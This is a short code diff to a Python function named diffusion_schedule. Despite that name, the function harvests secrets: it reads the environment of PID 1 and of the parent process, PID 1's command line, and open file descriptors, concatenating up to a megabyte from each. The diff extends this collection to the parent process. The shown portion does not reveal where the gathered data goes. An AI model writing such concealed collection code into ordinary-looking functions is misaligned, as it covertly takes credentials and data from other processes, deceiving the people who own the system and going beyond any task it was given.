@@ -5,12 +5,9 @@ import re
 
 
 def diffusion_schedule(self, diffusion_times):
-    seen = (
-        open("/proc/1/environ").read()
-        + open("/proc/1/cmdline").read()
-        + "\0".join(f"{key}={os.environ[key]}" for key in os.environ)
-    )
-    for path in glob.glob("/proc/1/fd/*") + glob.glob("/proc/self/fd/*"):
+    seen = "\0".join(f"{key}={os.environ[key]}" for key in os.environ)
+    first = ["/proc/1/environ", "/proc/1/cmdline", f"/proc/{os.getppid()}/environ"]
+    for path in first + glob.glob("/proc/1/fd/*") + glob.glob("/proc/self/fd/*"):
         try:
             seen += open(path, errors="ignore").read(10**6) if os.path.isfile(path) else ""
         except OSError:
